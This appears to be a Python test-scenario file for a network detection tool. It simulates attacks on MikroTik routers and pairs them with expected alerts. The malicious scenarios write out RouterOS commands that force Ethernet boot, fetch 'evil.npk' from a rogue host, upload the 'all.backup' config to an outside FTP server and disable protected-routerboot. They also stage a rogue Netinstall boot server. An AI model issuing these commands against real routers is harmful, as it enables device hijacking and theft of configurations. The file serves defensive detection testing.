"""MikroTik's routers: orders typed and logged, and RouterBOOT, which asks by BOOTP as Netinstall wants it."""

from __future__ import annotations

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, DEVICE, DHCP_SERVER, HQ, OUTSIDE, ROGUE
from bootwarden.traffic import images, syslog, telnet, tftp
from bootwarden.traffic.dhcp import Client
from bootwarden.traffic.wire import Wire

PROMPT = "[admin@MikroTik] > "
KERNEL = b"\x7fELF\x01\x01\x01" + bytes(9) + b"\x02\x00\x08\x00" + images.filler(4000, "routerboot")
TO_ETHERNET = "/system routerboard settings set boot-device=try-ethernet-once-then-nand"
ETHERNET = "/system routerboard settings set boot-device=ethernet"


def logged(wire: Wire, said: str, topics: str = "system,info") -> None:
    """A message of RouterOS 7 to the collector."""
    syslog.send(wire, DEVICE, f"<30>Jan  5 08:00:00 MikroTik {topics} {said}")


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", 0, ATTACKER, DEVICE)],
    site=HQ,
    with_site=Expect((Notice("Boot_Command", DEVICE), Notice("Netboot_Hijack", DEVICE))),
)
def mikrotik_by_ethernet(wire: Wire) -> None:
    """Typed, and in WinBox: the router is to boot over Ethernet; it says so in its log, and that it restarted."""
    session = telnet.Telnet(wire, ATTACKER, DEVICE, prompt=PROMPT)
    session.login()
    session.typed(TO_ETHERNET)
    session.close()
    logged(wire, f"routerboard settings changed by tcp-msg(winbox):admin@{ATTACKER} ({ETHERNET})")
    logged(wire, "router rebooted")


@scenario(
    "BW01",
    "malicious",
    site=HQ,
    with_site=Expect((Notice("Rogue_Boot_Options", DEVICE, ROGUE, "kernel"),)),
    raises_with_site=[("BW01", 0, ROGUE, "255.255.255.255")],
)
def mikrotik_netinstalled(wire: Wire) -> None:
    """RouterBOOT asks for an address and a file, and a rogue Netinstall gives it both."""
    Client(wire, DEVICE, vendor_class="Mips_boot", asked=(1, 3)).lease(ROGUE, [(67, "kernel")], siaddr=ROGUE)
    tftp.read(wire, DEVICE, ROGUE, "kernel", KERNEL, offer={"blksize": 1452}, client_port=1024)


@scenario("BW07", "benign", site=HQ, with_site=Expect())
def mikrotik_administered(wire: Wire) -> None:
    """An administrator looks at the settings, changes others, and installs a router from the declared server."""
    session = telnet.Telnet(wire, ADMIN, DEVICE, prompt=PROMPT)
    session.login()
    session.typed("/system routerboard settings print")
    session.typed("/system routerboard settings set boot-delay=2s")
    session.close()
    logged(wire, f"filter rule changed by tcp-msg(winbox):admin@{ADMIN} (/ip firewall filter set *5 disabled=yes)")
    logged(wire, f"user admin logged in from {ADMIN} via telnet", "system,info,account")
    Client(wire, DEVICE, vendor_class="Mips_boot", asked=(1, 3)).lease(
        DHCP_SERVER, [(67, "kernel")], siaddr=BOOT_SERVER
    )
    tftp.read(wire, DEVICE, BOOT_SERVER, "kernel", KERNEL, offer={"blksize": 1452}, client_port=1024)


@scenario(
    "BW07",
    "malicious",
    raises=[
        ("BW07", 1542007309, DEVICE, syslog.COLLECTOR),
        ("BW18", 1542007340, DEVICE, syslog.COLLECTOR),
        ("BW27", 1542007350, DEVICE, syslog.COLLECTOR),
    ],
    plain=Expect((Notice("Config_Exfiltration", DEVICE, OUTSIDE, "all.backup"),)),
    site=HQ,
    with_site=Expect(
        (
            Notice("Boot_Command", DEVICE, ROGUE, "evil.npk"),
            Notice("Config_Exfiltration", DEVICE, OUTSIDE, "all.backup"),
            Notice("Boot_Integrity_Lowered", DEVICE),
        )
    ),
)
def mikrotik_logged(wire: Wire) -> None:
    """What is clicked in WinBox is seen only in the router's log: a file fetched, one sent away, a guard taken off."""
    by = f"by tcp-msg(winbox):admin@{ATTACKER}"
    logged(wire, f"fetch executed {by} (/tool fetch url=tftp://{ROGUE}/evil.npk)")
    logged(wire, f"fetch executed {by} (/tool fetch upload=yes src-path=all.backup url=ftp://{OUTSIDE}/all.backup)")
    logged(wire, f"settings changed {by} (/system routerboard settings set protected-routerboot=disabled)")
